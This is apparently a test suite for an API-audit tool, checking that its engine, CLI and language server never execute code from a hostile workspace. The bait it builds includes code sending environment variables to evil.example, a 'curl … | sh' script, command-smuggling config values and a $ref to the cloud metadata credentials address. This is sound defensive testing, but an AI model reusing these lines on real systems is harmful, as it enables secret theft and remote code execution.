/**
 * Safe in untrusted workspaces: auditing a workspace full of things that try to run code
 * (package.json scripts, configuration naming JavaScript plugins, a tsconfig plugin, source
 * files that require each other, `$ref`s to http URLs and to the cloud metadata address)
 * must not start a process, open a socket, resolve a name, fetch a URL, evaluate a string or
 * load a module from the workspace. The tripwires record any attempt; the bait files would
 * also leave marker files behind if they ever ran. Exercised through the engine, the CLI and
 * the language server, in-process.
 */
import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import { PassThrough, Writable } from 'stream';
import { createConnection, ProposedFeatures, StreamMessageReader, StreamMessageWriter } from 'vscode-languageserver/node';
import { createEngine } from '../../server/src/engine';
import { loadConfig } from '../../server/src/engine/config';
import { runCli } from '../../server/src/cli/run';
import { startSession } from '../../server/src/lsp/session';
import { NodeFileSystem } from '../../server/src/node-file-system';
import { LspClient, fileUri } from '../lsp/lsp-client';
import { specHead } from './generators';
import { corpusText, enginePath, makeTempDir, removeDir } from './support';
import { installTripwires, type Tripwires } from './tripwires';

/** Code that, if it ever ran, would leave `<marker>` behind and try the network and a shell. */
function bait(marker: string): string {
  return [
    `require('fs').writeFileSync(${JSON.stringify(marker)}, 'ran');`,
    `require('child_process').execSync('touch ${marker}.sh');`,
    `require('https').get('https://evil.example/exfiltrate?d=' + encodeURIComponent(JSON.stringify(process.env)));`,
    'module.exports = { rules: {}, create() { return {}; } };',
    '',
  ].join('\n');
}

function buildHostileWorkspace(root: string): string[] {
  const markers: string[] = [];
  const write = (rel: string, content: string) => {
    const p = path.join(root, rel);
    fs.mkdirSync(path.dirname(p), { recursive: true });
    fs.writeFileSync(p, content);
  };
  const evil = (rel: string) => {
    const marker = path.join(root, `${rel.replace(/[\\/]/g, '_')}.RAN`);
    markers.push(marker, `${marker}.sh`);
    write(rel, bait(marker));
  };
  evil('evil.js');
  evil('evil.cjs');
  evil('evil.mjs');
  evil('rules/custom-rule.js');
  evil('node_modules/express/index.js');
  evil('node_modules/api-warden-plugin-evil/index.js');
  evil('.api-warden/plugin.js');
  const scripts = Object.fromEntries(['preinstall', 'install', 'postinstall', 'prepare', 'test', 'lint', 'api-warden'].map((s) => [s, 'node evil.js && curl https://evil.example | sh']));
  write('package.json', JSON.stringify({
    name: 'hostile', version: '1.0.0', main: 'evil.js', bin: { 'api-warden': 'evil.js' }, scripts,
    'api-warden': { plugins: ['./evil.js'], rulesDir: './rules', require: ['./evil.cjs'] },
    dependencies: { express: '4.0.0', 'api-warden-plugin-evil': 'file:./evil.js' },
  }, null, 2));
  write('.api-warden.yaml', [
    'extends: ./evil.js',
    'plugins: [./evil.js, api-warden-plugin-evil]',
    'require: ./evil.cjs',
    'rulesDir: ./rules',
    'customRules: [./rules/custom-rule.js]',
    'rules:',
    '  spec-server-plain-http: error',
    '  ./evil.js: error',
    'authMiddleware: ["require(\'child_process\').execSync(\'touch pwned\')", "${process.exit(1)}"]',
    'publicRoutes: ["$(touch pwned)", "`touch pwned`"]',
    '',
  ].join('\n'));
  write('tsconfig.json', JSON.stringify({ extends: './evil.js', compilerOptions: { plugins: [{ name: './evil.js' }, { name: 'api-warden-plugin-evil' }] } }));
  write('.vscode/settings.json', JSON.stringify({ 'apiWarden.configFile': './evil.js', 'typescript.tsserver.pluginPaths': ['./evil.js'] }));
  write('.git/hooks/pre-commit', '#!/bin/sh\nnode evil.js\n');
  write('src/app.ts', [
    "import './evil-import';",
    "import express from 'express';",
    "import plugin from 'api-warden-plugin-evil';",
    "const dynamic = require('../evil.js');",
    "eval(\"require('child_process').execSync('touch pwned')\");",
    "new Function(\"return require('child_process')\")();",
    corpusText('express-app.ts.txt'),
  ].join('\n'));
  evil('src/evil-import.js');
  write('openapi.yaml', specHead([
    'x-api-warden-plugin: ./evil.js',
    'externalDocs: {url: "https://evil.example/docs"}',
    'paths:',
    '  /a:',
    '    get:',
    '      responses:',
    "        '200':",
    '          description: ok',
    '          content:',
    "            application/json: {schema: {$ref: 'https://evil.example/schemas.yaml#/A'}}",
    "        '201': {$ref: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'}",
    "        '202': {$ref: './evil.js#/x'}",
    "        '203': {$ref: '//evil.example/x.yaml'}",
    '',
  ].join('\n')));
  return markers;
}

function sink(): Writable & { text: string; isTTY: boolean } {
  const s = new Writable({
    write(chunk: Buffer, _enc, cb) {
      s.text += chunk.toString();
      cb();
    },
  }) as Writable & { text: string; isTTY: boolean };
  s.text = '';
  s.isTTY = false;
  return s;
}

describe('robustness: safe in untrusted workspaces (no code, no processes, no network)', function () {
  this.timeout(60_000);
  let root = '';
  let markers: string[] = [];
  let wires: Tripwires | undefined;

  beforeEach(() => {
    root = makeTempDir('hostile');
    markers = buildHostileWorkspace(root);
  });
  afterEach(() => {
    wires?.restore();
    wires = undefined;
    removeDir(root);
  });

  function arm(): void {
    wires = installTripwires({ workspaceRoots: [fs.realpathSync(root), root] });
  }

  function assertNothingRan(): void {
    const attempts = [...(wires?.attempts ?? [])];
    wires?.restore();
    wires = undefined;
    assert.deepStrictEqual(attempts, [], 'no process, socket, DNS lookup, fetch, eval or workspace module');
    assert.deepStrictEqual(markers.filter((m) => fs.existsSync(m)), [], 'no bait file ran');
    assert.ok(!fs.existsSync(path.join(root, 'pwned')));
  }

  it('the tripwires do fire (self-test)', () => {
    arm();
    assert.throws(() => require(path.join(root, 'evil.js')));
    assert.throws(() => require('child_process').execSync('true'));
    assert.throws(() => require('https').get('https://evil.example/'));
    assert.strictEqual(wires!.attempts.length, 3);
    wires!.restore();
    wires = undefined;
    assert.deepStrictEqual(markers.filter((m) => fs.existsSync(m)), []);
  });

  it('engine: configuration is read as data, the audit runs, nothing executes', async () => {
    arm();
    const fileSystem = new NodeFileSystem();
    const config = loadConfig(fileSystem, enginePath(root));
    const engine = createEngine({ fs: fileSystem, roots: [enginePath(root)], settings: config.settings });
    const audit = await engine.audit();
    for (const f of audit.discovery.code) await engine.lintFile(f);
    for (const f of audit.discovery.specs) await engine.lintFile(f);
    assertNothingRan();
    assert.ok(audit.findings.some((f) => f.ruleId === 'spec-server-plain-http'), 'the audit really ran');
  });

  it('CLI: audit with every report format, and --config pointing at a JavaScript file', async () => {
    arm();
    const io = { stdout: sink(), stderr: sink(), env: {}, cwd: root };
    const reports = ['json', 'sarif', 'html', 'markdown'].flatMap((f) => ['-o', `${f}:${path.join(root, `report.${f}`)}`]);
    const code = await runCli(['audit', root, ...reports], io);
    assert.ok(code === 0 || code === 1 || code === 2, `exit code ${code}`);
    const withJsConfig = await runCli(['audit', root, '--config', path.join(root, 'evil.js')], { stdout: sink(), stderr: sink(), env: {}, cwd: root });
    assert.ok([0, 1, 2].includes(withJsConfig));
    assertNothingRan();
  });

  it('language server: open the bait files, pull diagnostics, run a workspace audit', async () => {
    arm();
    const toServer = new PassThrough();
    const toClient = new PassThrough();
    const connection = createConnection(ProposedFeatures.all, new StreamMessageReader(toServer), new StreamMessageWriter(toClient));
    startSession(connection, { fs: new NodeFileSystem() });
    connection.listen();
    const client = LspClient.overStreams(toClient, toServer);
    client.settings = () => ({ configFile: './evil.js', authMiddleware: ['./evil.js'], plugins: ['./evil.js'] });
    try {
      await client.initialize({ folders: [root], processId: null });
      for (const [rel, lang] of [['src/app.ts', 'typescript'], ['openapi.yaml', 'yaml'], ['evil.js', 'javascript'], ['.api-warden.yaml', 'yaml']] as const) {
        const file = path.join(root, rel);
        client.open(fileUri(file), lang, fs.readFileSync(file, 'utf8'));
        await client.diagnostics(fileUri(file));
      }
      const summary = await client.audit();
      assert.ok(summary.findings.length > 0, 'the audit really ran');
    } finally {
      await client.shutdown();
    }
    assertNothingRan();
  });
});
